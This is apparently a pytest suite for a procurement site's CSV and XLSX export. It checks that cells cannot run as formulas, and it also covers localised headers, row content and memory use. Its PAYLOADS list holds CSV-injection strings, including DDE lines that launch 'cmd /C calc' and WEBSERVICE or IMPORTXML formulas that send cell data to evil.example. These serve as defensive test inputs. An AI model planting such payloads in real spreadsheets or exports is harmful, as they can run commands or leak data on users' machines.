"""The export for spreadsheets: what a reader finds in a row, and that no cell can act."""

import csv
import io
import tracemalloc
from collections.abc import Callable, Iterator
from datetime import datetime, timedelta
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy.orm import Session

from procurement.cleaning import clean_text
from procurement.exports.sheets import plain_cell, safe_cell
from procurement.exports.tables import (
    Column,
    TenderRow,
    tender_rows,
    write_csv,
    write_xlsx,
)
from procurement.models import Buyer, Cpv
from procurement.vocabulary import ProcurementMethod, TenderState
from tests.factories import make_lot, make_tender

# What makes a spreadsheet compute, call or link, alone and behind what people and programs put before it.
PAYLOADS = [
    "=1+1",
    '=HYPERLINK("https://evil.example","Avis")',
    "=cmd|'/C calc'!A0",
    '=WEBSERVICE("https://evil.example/?"&A1)',
    '=IMPORTXML("https://evil.example","//a")',
    '=DDE("cmd";"/C calc";"x")',
    "=-1",
    "+1+1",
    "+cmd|'/C calc'!A0",
    "++1",
    "-1+1",
    "-2+3+cmd|'/C calc'!A0",
    "--1",
    "- Lot 1",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "@import",
    " =1+1",
    "   =1+1",
    "\t=1+1",
    "\tLot 1",
    "\r=1+1",
    "\rLot 1",
    "\n=1+1",
    "\r\n=1+1",
    "\0=1+1",
    "\0Lot 1",
    " \0=1+1",
    "\x0b=1+1",
    "\x1b[31m=1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "\u22121+1",
    "﹦1+1",
    " ＝1+1",
    "\u00ad=1+1",
]
SIGNS = "=+-@\t\r\n\0＝＋－＠\u2212﹦"
Rows = list[list[str]]


def row(**cells: object) -> TenderRow:
    """A row with nothing in it but these cells."""
    nothing: dict[str, object] = {column.value: "" for column in Column} | {"value": None}
    return TenderRow(**{**nothing, **cells})  # type: ignore[arg-type]


def as_csv(rows: list[TenderRow]) -> str:
    """What is written, as its bytes say it."""
    file = io.StringIO(newline="")
    write_csv(rows, file)
    return file.getvalue()


def read_csv(rows: list[TenderRow], tmp_path: Path) -> Rows:
    """What a program reads again from a CSV file."""
    path = tmp_path / "marches.csv"
    with path.open("w", encoding="utf-8", newline="") as file:
        write_csv(rows, file)
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.reader(file, strict=True))


def read_xlsx(rows: list[TenderRow], tmp_path: Path) -> Rows:
    """What a program reads again from an XLSX file, where every cell with text must be one of text."""
    path = tmp_path / "marches.xlsx"
    write_xlsx(rows, path)
    sheet = openpyxl.load_workbook(path).active
    assert sheet is not None
    cells = [cell for line in sheet.iter_rows() for cell in line]
    assert {cell.data_type for cell in cells} <= {"s", "n", "inlineStr"}
    return [["" if cell is None else str(cell) for cell in line] for line in sheet.values]


def the_row(session: Session, now: datetime, language: str = "fr") -> TenderRow:
    """The only row."""
    session.flush()
    [found] = tender_rows(session, now=now, language=language)
    return found


@pytest.mark.parametrize("read", [read_csv, read_xlsx])
@pytest.mark.parametrize("payload", PAYLOADS, ids=ascii)
def test_no_text_begins_as_a_formula_does(
    tmp_path: Path, payload: str, read: Callable[[list[TenderRow], Path], Rows]
) -> None:
    rows = read([row(title=payload, buyer=payload, link=payload, currency=payload)], tmp_path)

    for cell in filter(None, rows[1]):
        assert cell.startswith("'")
        assert cell[1:].strip()
        assert not set(cell) & set("\0\t\r\x1b")


@pytest.mark.parametrize("text", [*PAYLOADS, "L'été; '=1", "a;b", "'", "'cité'", ""], ids=ascii)
def test_a_cell_is_read_again_as_the_text_that_it_keeps_from_acting(text: str) -> None:
    stored = clean_text(text, longest=1000)

    assert plain_cell(safe_cell(stored)) == stored


def test_the_corpus_is_as_large_as_promised() -> None:
    assert len(set(PAYLOADS)) >= 40


@pytest.mark.parametrize("payload", PAYLOADS, ids=ascii)
def test_nothing_acts_where_semicolons_separate_columns_either(payload: str) -> None:
    written = as_csv([row(title=f"Lot 1;{payload}", buyer=f'x";{payload}')])

    for cell in written.splitlines()[1].split(";"):
        assert cell.strip('" ')[:1] not in SIGNS or not cell.strip('" ')


@pytest.mark.parametrize(
    "text",
    [
        "Nettoyage des écoles – lot 1",
        "Réfection 2026-2027",
        "a=b",
        "d’insertion",
        "« Les Tilleuls »",
        "1205 Genève (GE)",
        "Soumission: +41 22 000 00 00",
        "",
    ],
)
def test_common_text_stays_as_it_is(text: str) -> None:
    assert safe_cell(text) == text


@pytest.mark.parametrize("read", [read_csv, read_xlsx])
@pytest.mark.parametrize(
    "text",
    [
        'Lot «1», "extra", suite',
        "première\nseconde",
        "a,b;c",
        "Zürich – 東京 – 🌳",
        '"',
        '""',
        "#REF!",
        "TRUE",
        "007",
    ],
)
def test_text_is_read_again_as_it_was(
    tmp_path: Path, text: str, read: Callable[[list[TenderRow], Path], Rows]
) -> None:
    rows = read([row(title=text, source="simap.ch")], tmp_path)

    assert rows[1][0] == text
    assert rows[1][list(Column).index(Column.SOURCE)] == "simap.ch"


def test_csv_begins_with_the_mark_of_utf8_and_ends_lines_as_its_rfc_says() -> None:
    written = as_csv([row(title='a "b", c')])

    assert written.startswith("\ufeffObjet,")
    assert written.count("\r\n") == 2
    assert written.endswith("\r\n")
    assert '"a ""b"", c",' in written


@pytest.mark.parametrize("value", [450_000, 0, -5])
def test_numbers_stay_numbers_in_the_column_of_numbers(tmp_path: Path, value: int) -> None:
    path = tmp_path / "marches.xlsx"

    write_xlsx([row(value=value, title="-5")], path)

    sheet = openpyxl.load_workbook(path).active
    assert sheet is not None
    line = list(sheet.values)[1]
    assert line[list(Column).index(Column.VALUE)] == value
    assert line[0] == "'-5"
    assert f",{value}," in as_csv([row(value=value)])


@pytest.mark.parametrize(
    ("language", "title", "deadline"), [("fr", "Objet", "Délai"), ("de", "Gegenstand", "Frist")]
)
def test_columns_are_named_in_the_readers_language(language: str, title: str, deadline: str) -> None:
    file = io.StringIO(newline="")

    write_csv([], file, language=language)

    header = file.getvalue().removeprefix("\ufeff").strip().split(",")
    assert (header[0], header[list(Column).index(Column.DEADLINE)]) == (title, deadline)


def test_a_row_says_what_is_called_for_by_whom_where_and_until_when(session: Session, now: datetime) -> None:
    session.add(Cpv(code="90911200", labels={"fr": "Nettoyage de bâtiments", "de": "Gebäudereinigung"}))
    tender = make_tender(session, value_amount=450_000, value_currency="CHF")
    make_lot(tender, place_city={"fr": "Lausanne"}, place_canton="VD", place_postal_code="1003")
    make_lot(tender, place_city={"fr": "Sion"}, place_canton="VS", is_withdrawn=True)

    found = the_row(session, now)

    assert found == TenderRow(
        title="Nettoyage écologique des écoles",
        buyer="Ville de Genève – Service des écoles",
        seat="1205 Genève (GE)",
        place="1205 Genève (GE) / 1003 Lausanne (VD)",
        cpv="90911200 Nettoyage de bâtiments",
        procedure="procédure ouverte",
        deadline="2026-12-14T12:00:00+01:00",
        state="publié",
        value=450_000,
        currency="CHF",
        link=tender.url,
        source="simap.ch",
        number=tender.number,
        published="2026-11-20",
    )


def test_a_row_is_in_the_readers_language(session: Session, now: datetime) -> None:
    make_tender(
        session, title={"fr": "Nettoyage", "de": "Reinigung"}, procurement_method=ProcurementMethod.DIRECT
    )

    found = the_row(session, now, "de")

    assert (found.title, found.procedure, found.state) == (
        "Reinigung",
        "freihändiges Verfahren",
        "ausgeschrieben",
    )


@pytest.mark.parametrize(
    ("state", "days", "word"),
    [
        (TenderState.ANNOUNCED, 5, "annoncé"),
        (TenderState.CALLED, 5, "publié"),
        (TenderState.CALLED, -1, "clos"),
        (TenderState.AWARDED, -1, "adjugé"),
        (TenderState.CANCELLED, 5, "interrompu"),
    ],
)
def test_the_state_is_that_of_the_moment(
    session: Session, now: datetime, state: TenderState, days: int, word: str
) -> None:
    make_tender(session, state=state, submission_deadline=now + timedelta(days=days))

    assert the_row(session, now).state == word


def test_what_is_unknown_is_an_empty_cell(session: Session, now: datetime) -> None:
    tender = make_tender(
        session, lots=[], cpv_codes=[], submission_deadline=None, source="elsewhere", value_currency="CHF"
    )
    tender.buyer = None
    make_lot(tender, place_city={}, place_canton="GE", place_postal_code="")

    found = the_row(session, now)

    assert (found.buyer, found.seat, found.cpv, found.deadline, found.value) == ("", "", "", "", None)
    assert (found.place, found.currency, found.source) == ("GE", "", "elsewhere")


def test_a_tender_that_another_one_stands_for_has_no_row(session: Session, now: datetime) -> None:
    standing = make_tender(session, title={"fr": "Un"})
    make_tender(session, title={"fr": "Le même"}, merged_into_id=standing.id)

    assert the_row(session, now).title == "Un"


def test_the_newest_comes_first(session: Session, now: datetime) -> None:
    buyer = Buyer(source="simap", source_key="b", name={"fr": "Ville"})
    for day in (3, 1, 2):
        make_tender(
            session, title={"fr": str(day)}, published_on=now.date() + timedelta(days=day), buyer=buyer
        )

    assert [each.title for each in tender_rows(session, now=now, language="fr")] == ["3", "2", "1"]


class _Nowhere(io.TextIOBase):
    """A file that keeps nothing."""

    def write(self, text: str) -> int:
        """Take the text and forget it."""
        return len(text)


def many(count: int) -> Iterator[TenderRow]:
    """Rows made as they are asked for."""
    for number in range(count):
        yield row(title=f"Marché {number} " + "x" * 200, value=number)


def peak_of(write: Callable[[], object]) -> int:
    """The most memory that was held at once while writing, in bytes."""
    tracemalloc.start()
    try:
        write()
        return tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


@pytest.mark.slow
def test_memory_does_not_grow_with_the_rows(tmp_path: Path) -> None:
    few, lots = 500, 4000

    csv_peaks = [peak_of(lambda n=n: write_csv(many(n), _Nowhere())) for n in (few, lots)]  # type: ignore[misc, arg-type]
    xlsx_peaks = [peak_of(lambda n=n: write_xlsx(many(n), tmp_path / "x.xlsx")) for n in (few, lots)]  # type: ignore[misc]

    assert csv_peaks[1] < csv_peaks[0] + 100_000
    assert xlsx_peaks[1] < xlsx_peaks[0] + 1_000_000
